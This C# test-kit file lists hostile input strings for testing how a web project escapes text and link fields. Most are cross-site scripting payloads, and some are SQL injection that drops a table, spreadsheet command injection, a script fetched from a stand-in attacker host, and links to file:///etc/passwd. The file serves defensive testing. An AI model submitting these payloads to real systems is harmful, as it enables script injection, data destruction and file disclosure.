namespace ResourceMatch.TestKit;

/// <summary>Texts that try to run, to turn words around, or to break a store: the shapes of the attacks, written for this project.</summary>
/// <remarks>Each that could run calls <c>alert</c> or <c>hit()</c>, so that a browser test hears it.</remarks>
public static class HostileTexts
{
    /// <summary>For fields of words.</summary>
    public static IReadOnlyList<string> Words { get; } =
    [
        "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></ScRiPt>", "<img src=x onerror=alert(1)>", "<img src=x onerror='alert(1)'//", "\"><img src=x onerror=alert(1)>",
        "'><svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<iframe src=\"javascript:alert(1)\"></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\">", "<object data=\"javascript:alert(1)\">", "<embed src=\"javascript:alert(1)\">", "<a href=\"javascript:alert(1)\">press</a>",
        "<form action=\"javascript:alert(1)\"><input type=submit>", "<button formaction=\"javascript:alert(1)\">x</button>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
        "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "<style>@import 'javascript:alert(1)';</style>", "<link rel=stylesheet href=\"javascript:alert(1)\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<base href=\"javascript:alert(1)//\">", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>x", "<div style=\"background:url(javascript:alert(1))\">", "<div onpointerover=alert(1) style=\"position:fixed;inset:0\">", "<x hx-get=\"/admin\" hx-trigger=load>", "<x hx-on:load=\"alert(1)\">", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>", "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>", "<<script>alert(1)//<</script>", "<scr\u0000ipt>alert(1)</scr\u0000ipt>", "<img\u000bsrc=x\u000bonerror=alert(1)>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E", "＜script＞alert(1)＜/script＞", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "@(alert(1))", "@Html.Raw(\"<script>alert(1)</script>\")",
        "javascript:alert(1)", "';alert(1);//", "\";alert(1);//", "`-alert(1)-`", "' or 1=1 --", "'; drop table directory.service; --", "=cmd|' /C calc'!A0", "{\"__proto__\":{\"x\":1}}",
        "right \u202eover\u202c left", "\u2066isolated\u2069", "zero\u200bwidth", "Z\u0351\u036b\u0343\u036a\u0302a\u0334lgo\u0321", "\ufeffmark", "lone \ud83d surrogate", "👩‍👩‍👧‍👦 🏳️‍🌈", "مرحبا <b>hello</b>", new string('W', 300), "NULL", "\u0000", "line\r\nbreak\u2028and\u2029more", "{name}", "{0}",
    ];

    /// <summary>For fields of links: none of these may ever become one.</summary>
    public static IReadOnlyList<string> Links { get; } =
    [
        "javascript:alert(1)", "JAVASCRIPT:alert(1)", "\u0001javascript:alert(1)", "java\nscript:alert(1)", "java\tscript:alert(1)", "javascript\u200b:alert(1)", "javascript://example.org/%0aalert(1)", "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:alert(1)", "blob:https://example.org/x", "filesystem:https://example.org/x", "file:///etc/passwd", "about:blank", "view-source:https://example.org", "//evil.example", "\\\\evil.example\\x",
        "https:evil.example", "https:/evil.example\"onclick=alert(1)", "https://bank.example@evil.example", "https://example.org\" onmouseover=\"alert(1)", "feed:javascript:alert(1)", "intent://x#Intent;scheme=javascript;end", "mailto:a@example.org?subject=x&bcc=b@example.org", "tel:1;javascript:alert(1)",
    ];
}
